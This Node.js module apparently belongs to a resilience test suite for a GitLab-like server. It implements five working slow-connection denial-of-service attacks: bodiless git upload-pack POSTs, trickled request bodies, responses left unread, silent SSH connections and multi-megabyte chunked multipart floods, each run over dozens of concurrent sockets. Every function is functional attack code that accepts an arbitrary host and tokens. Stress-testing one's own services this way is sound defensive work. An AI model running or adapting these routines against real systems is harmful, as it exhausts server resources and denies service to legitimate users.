/** Attacks that need nothing but connections: silent, slow, endless. */
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** Opens a connection, sends `words`, and passes it to `then` until `signal` or the server ends it. */
function open({ hostname, port }, words, signal, then = () => {}) {
  return new Promise((resolve) => {
    if (signal.aborted) return resolve();
    const socket = connect(Number(port), hostname);
    const end = () => socket.destroy();
    signal.addEventListener('abort', end, { once: true });
    // The server may close an attacker's connection; "close" follows.
    socket.on('error', () => undefined);
    socket.once('close', () => {
      signal.removeEventListener('abort', end);
      resolve();
    });
    socket.once('connect', () => {
      socket.write(words);
      then(socket);
    });
  });
}

/** Keeps `count` attempts running until the end. */
async function keep(count, signal, attempt) {
  const one = async () => {
    while (!signal.aborted) {
      await attempt();
      await delay(100, undefined, { signal }).catch(() => undefined);
    }
  };
  await Promise.all(Array.from({ length: count }, one));
}

const head = (lines) => `${lines.join('\r\n')}\r\n\r\n`;

/** POST requests for git that never send a body, without an account. */
export const silentFetches = ({ url, victim }, signal) =>
  keep(100, signal, () =>
    open(
      url,
      head([
        `POST /${victim.path_with_namespace}.git/git-upload-pack HTTP/1.1`,
        `Host: ${url.host}`,
        'Content-Type: application/x-git-upload-pack-request',
        'Transfer-Encoding: chunked',
      ]),
      signal,
    ),
  );

/** A body of one byte every five seconds. */
export const slowBodies = ({ url, mallory }, signal) =>
  keep(30, signal, () =>
    open(
      url,
      head([
        'POST /api/v4/projects HTTP/1.1',
        `Host: ${url.host}`,
        `PRIVATE-TOKEN: ${mallory.token}`,
        'Content-Type: application/json',
        'Content-Length: 1000000',
      ]),
      signal,
      (socket) => {
        const timer = setInterval(() => socket.write('x'), 5000);
        socket.once('close', () => clearInterval(timer));
      },
    ),
  );

/** Requests an archive and a list, and reads nothing of the responses. */
export const deafReaders = ({ url, victim, mallory }, signal) => {
  const targets = [
    `/projects/${victim.id}/repository/archive.tar`,
    `/projects/${mallory.project.id}/issues?per_page=100`,
  ];
  return keep(20, signal, () =>
    open(
      url,
      head([
        `GET /api/v4${targets[Math.floor(Math.random() * 2)]} HTTP/1.1`,
        `Host: ${url.host}`,
        `PRIVATE-TOKEN: ${mallory.token}`,
      ]),
      signal,
      (socket) => socket.pause(),
    ),
  );
};

/** SSH connections that never send an identification. */
export const silentSsh = ({ sshPort }, signal) =>
  sshPort ? keep(50, signal, () => open({ hostname: '127.0.0.1', port: sshPort }, '', signal)) : undefined;

/** Text fields whose sum exceeds the limit of a body, from a caller who may not call. */
export const floodsOfFields = ({ url }, signal) => {
  const part = `--b\r\nContent-Disposition: form-data; name="field"\r\n\r\n${'x'.repeat(6_000_000)}\r\n`;
  return keep(2, signal, () =>
    open(
      url,
      head([
        'POST /api/v4/runners HTTP/1.1',
        `Host: ${url.host}`,
        'Content-Type: multipart/form-data; boundary=b',
        'Transfer-Encoding: chunked',
      ]),
      signal,
      async (socket) => {
        const chunk = `${part.length.toString(16)}\r\n${part}\r\n`;
        const closed = new AbortController();
        socket.once('close', () => closed.abort());
        const drained = () => once(socket, 'drain', closed).catch(() => undefined);
        for (let sent = 0; sent < 400 && !socket.destroyed; sent++) if (!socket.write(chunk)) await drained();
        socket.destroy();
      },
    ),
  );
};
